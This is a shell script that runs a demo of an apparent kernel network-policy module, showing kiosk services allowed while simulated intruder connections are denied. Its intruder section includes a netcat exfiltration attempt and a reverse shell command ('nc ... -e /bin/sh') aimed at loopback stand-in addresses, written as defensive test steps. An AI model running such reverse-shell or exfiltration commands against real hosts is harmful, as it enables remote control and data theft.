#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
#
# The `make demo` scenario, run inside the VM: a kiosk whose services
# work under the example policy while an intruder with a root shell is
# refused at every outbound step. Denials stream from the kernel log.
cd "$(dirname "$0")" || exit 1
export PATH="$PWD:$PATH"

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
seen=0
# Prints the kernel's denial lines that appeared since the last call, as
# ops would see them arrive in their log pipeline.
new_denials() {
	dmesg | grep 'citadel: deny' >/tmp/denials
	total=$(wc -l </tmp/denials)
	if [ "$total" -gt "$seen" ]; then
		tail -n $((total - seen)) /tmp/denials | sed 's/^/      [kernel] /'
	fi
	seen=$total
}

try() {
	desc=$1
	shift
	if "$@" >/dev/null 2>&1; then
		printf '  %-58s %s\n' "$desc" "ALLOWED"
		echo "$desc|allowed" >>/tmp/summary
	else
		printf '  %-58s %s\n' "$desc" "DENIED"
		echo "$desc|denied" >>/tmp/summary
	fi
	new_denials
}

say "Boot: load citadel.ko, attach the BPF LSM hooks, load the kiosk policy"
insmod ./citadel.ko || exit 1
citadelctl start || exit 1
citadelctl check kiosk-demo.conf && citadelctl compile kiosk-demo.conf -o /tmp/kiosk.cpol || exit 1
citadelctl load /tmp/kiosk.cpol || exit 1
citadelctl status

dmesg -n 1

say "Kiosk services"
mkdir -p /tmp/www && echo "Welcome to the city kiosk" >/tmp/www/index.html
httpd -p 127.0.0.1:8080 -h /tmp/www
nc -l -p 9000 >/tmp/telemetry.log &
sleep 1
try "kiosk UI: GET http://127.0.0.1:8080/" wget -q -O /tmp/page http://127.0.0.1:8080/
try "telemetry: report to 127.0.0.2:9000" sh -c 'echo temp=21 | nc -w 2 127.0.0.2 9000'

say "Intruder with a root shell"
try "exfiltrate to 127.0.0.66:443 (HTTPS)" nc -w 2 127.0.0.66 443
try "reverse shell to 127.0.0.99:4444" sh -c 'nc -w 2 127.0.0.99 4444 -e /bin/sh'
try "DNS lookup through another resolver 127.0.0.8" nslookup citadel.example 127.0.0.8
try "telemetry port on the wrong host 127.0.0.3:9000" nc -w 2 127.0.0.3 9000
try "IPv6 to [::1]:22" nc -w 2 ::1 22

say "Status after the scenario"
citadelctl status

say "Summary"
printf '  %-58s %s\n' "step" "result"
while IFS='|' read -r d r; do
	printf '  %-58s %s\n' "$d" "$r"
done </tmp/summary
